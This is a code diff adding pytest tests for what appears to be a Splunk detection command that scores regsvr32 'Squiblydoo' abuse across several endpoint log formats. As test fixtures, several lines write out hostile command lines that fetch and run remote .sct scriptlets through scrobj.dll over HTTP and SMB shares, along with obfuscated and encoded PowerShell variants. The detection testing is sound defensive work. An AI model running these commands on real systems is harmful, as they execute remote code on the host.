@@ -243,3 +243,120 @@ def test_a_tstats_row_without_user_or_host_gives_no_risk_object():
         entities(row)
         got = dict((f, row[f]) for f in objects if row.get(f))
         assert got == want, got
+
+
+# --- reliability: which reader reads a row ----------------------------------------------------
+SQUIBLYDOO = "regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll"
+REGSVR32_PATH = "C:\\Windows\\System32\\regsvr32.exe"
+ECS_START = {"process.executable": REGSVR32_PATH, "process.command_line": SQUIBLYDOO,
+             "process.parent.executable": "C:\\Windows\\explorer.exe", "host.name": "ws1"}
+
+
+@pytest.mark.parametrize("args", [[], ["mode=filter"]])
+def test_no_selector_value_vetoes_a_reader_and_an_unread_row_says_so(args):
+    # Once: ActionType=N/A (fillnull) vetoed a Sysmon row, and SentinelOne's event.type vetoed
+    # every Elastic Defend process start (event.type=start): both passed with score 0, silently.
+    read = numbered([
+        dict(MALICIOUS, ActionType="N/A"), dict(MALICIOUS, event_simpleName="-"),
+        dict(MALICIOUS, **{"event.type": "null"}),
+        dict(ECS_START, **{"event.category": ["process"], "event.type": ["start", "process_start"]}),
+        dict(ECS_START, **{"event.category": "process", "event.type": "info"}),
+        dict(ECS_START, **{"event.category{}": ["process"], "event.type": "start"}),
+        dict(ECS_START, **{"event.category": ["host", "process"], "event.type": ["start"]}),
+    ])
+    unread = numbered([dict(ECS_START, **{"event.category": "N/A", "event.type": "start"}),
+                       {"ActionType": "null", "FolderPath": REGSVR32_PATH, "ProcessCommandLine": SQUIBLYDOO}],
+                      len(read))
+    benign = numbered([BENIGN], len(read) + len(unread))
+    result = chunked.run(args, [read + unread + benign])
+    assert result.returncode == 0, result.stderr[-2000:]
+    rows = dict((r["seq"], r) for r in result.rows)
+    for row in read:
+        got = rows[row["seq"]]
+        assert "R32-001" in got["regsvr32_rules"] and got["regsvr32_error"] == "", row
+    for row in unread:
+        got = rows[row["seq"]]
+        assert got["regsvr32_score"] == "0", row
+        assert got["regsvr32_error"].startswith("no reader for this row: regsvr32 is in "), got
+    assert (benign[0]["seq"] in rows) == (args == [])
+
+
+def test_paths_as_windows_logs_write_them_and_unknown_folders():
+    # Once: \??\C:\Windows\System32\regsvr32.exe, %SystemRoot%\..., \SystemRoot\..., Sysnative and
+    # Defender's FolderPath=null (read as null\regsvr32.exe) were "regsvr32.exe running from an
+    # unexpected folder" (R32-020, high).
+    safe = "regsvr32 /s C:\\Windows\\System32\\msxml6.dll"
+    images = ["\\??\\C:\\Windows\\System32\\regsvr32.exe", "\\\\?\\C:\\Windows\\SysWOW64\\regsvr32.exe",
+              "%SystemRoot%\\System32\\regsvr32.exe", "%windir%\\SysWOW64\\regsvr32.exe",
+              "\\SystemRoot\\System32\\regsvr32.exe", "C:\\Windows\\Sysnative\\regsvr32.exe"]
+    home = numbered([dict(BENIGN, Image=image, CommandLine=safe, ParentImage="C:\\Windows\\explorer.exe")
+                     for image in images]
+                    + [{"ActionType": "ProcessCreated", "FolderPath": folder, "FileName": "regsvr32.exe",
+                        "ProcessCommandLine": safe} for folder in ("null", "N/A", "")])
+    away = numbered([dict(BENIGN, Image="\\??\\C:\\Users\\Public\\regsvr32.exe", CommandLine=safe)], len(home))
+    result = chunked.run([], [home + away])
+    assert result.returncode == 0, result.stderr[-2000:]
+    rows = result.rows
+    assert [r["seq"] for r in rows] == [r["seq"] for r in home + away]
+    for row in rows[:len(home)]:
+        assert "R32-020" not in row["regsvr32_rules"] and row["regsvr32_error"] == "", row
+    assert "R32-020" in rows[-1]["regsvr32_rules"]
+
+
+@pytest.mark.parametrize("args", [[], ["mode=filter"]])
+def test_every_value_of_a_multivalue_field_is_judged(args):
+    # Once: only a multivalue field's first value counted: a benign first command line (or image,
+    # or parent) hid what came after it. Lists travel with their __mv_ columns, as from splunkd.
+    safe = "regsvr32 /s C:\\Windows\\System32\\msxml6.dll"
+    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+    sent = numbered([
+        dict(MALICIOUS, CommandLine=[safe, MALICIOUS["CommandLine"]]),
+        dict(BENIGN, Image=REGSVR32_PATH, CommandLine=safe,
+             ParentImage=["C:\\Windows\\explorer.exe", word]),
+        dict(BENIGN, Image=[REGSVR32_PATH, "C:\\Users\\Public\\regsvr32.exe"], CommandLine=safe),
+        dict(ECS_START, **{"event.code": "1", "process.command_line": [safe, SQUIBLYDOO]}),
+        dict(BENIGN, Image=REGSVR32_PATH, CommandLine=[safe, safe + " "]),
+    ])
+    result = chunked.run(args, [sent + numbered([BENIGN] * 20, len(sent))])
+    assert result.returncode == 0, result.stderr[-2000:]
+    rows = dict((r["seq"], r) for r in result.rows)
+    for row, rule, which in zip(sent, ["R32-001", "R32-015", "R32-020", "R32-001"],
+                                ["CommandLine value 2 of 2", "ParentImage value 2 of 2", "Image value 2 of 2",
+                                 "process.command_line value 2 of 2"]):
+        got = rows[row["seq"]]
+        assert rule in got["regsvr32_rules"] and got["regsvr32_error"] == "", got
+        (note,) = [r for r in got["regsvr32_reasons"] if r.startswith("multivalue: this verdict is for ")]
+        assert which in note, note
+        for name, value in row.items():      # the row itself passes as it came
+            assert got[name] == value, name
+    assert (sent[-1]["seq"] in rows) == (args == [])
+
+
+@pytest.mark.parametrize("args", [[], ["mode=filter"]])
+def test_a_renamed_copy_or_encoded_powershell_is_not_skipped_unread(args):
+    # Once: the cheap test (and the byte-level path after it) let these rows by unread, though
+    # the rules flag them: a renamed regsvr32 (4688: no OriginalFileName) fetching its scriptlet
+    # over a share or a quoted URL, or naming scr""obj.dll, and PowerShell's /e and en-dash -e.
+    renamed = {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe",
+               "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"}
+    lines = ["jabber.exe /s /u /i:\\\\10.1.2.3\\share\\a.sct x.dll",
+             "jabber.exe /s /u /i://10.1.2.3/share/a.sct x.dll",
+             "jabber.exe /s /u /i:\\\\files@SSL\\DavWWWRoot\\a.sct x.dll",
+             'jabber.exe /s /u /i:"http://files.example/a.sct" x.dll',
+             "jabber.exe /s /u /i:\\??\\UNC\\files\\share\\a.sct x.dll",
+             'jabber.exe /s /u /i:C:\\Users\\Public\\a.sct "scr""obj.dll"']
+    encoded = "cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA=="
+    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    flagged = numbered([dict(renamed, CommandLine=line) for line in lines]
+                       + [dict(BENIGN, Image=shell, CommandLine="powershell.exe %s %s" % (switch, encoded))
+                          for switch in ("/enc", "\u2013e", "-ec")])
+    benign = numbered([BENIGN] * 200, len(flagged))
+    result = chunked.run(args, [benign[:100] + flagged + benign[100:]])
+    assert result.returncode == 0, result.stderr[-2000:]
+    rows = dict((r["seq"], r) for r in result.rows)
+    for row in flagged:
+        got = rows[row["seq"]]
+        assert int(got["regsvr32_score"]) >= 20 and got["regsvr32_error"] == "", (row, got)
+    assert "R32-019" in rows[flagged[0]["seq"]]["regsvr32_rules"]
+    assert "R32-045" in rows[flagged[-1]["seq"]]["regsvr32_rules"]
+    assert len(rows) == (len(flagged) + len(benign) if args == [] else len(flagged))
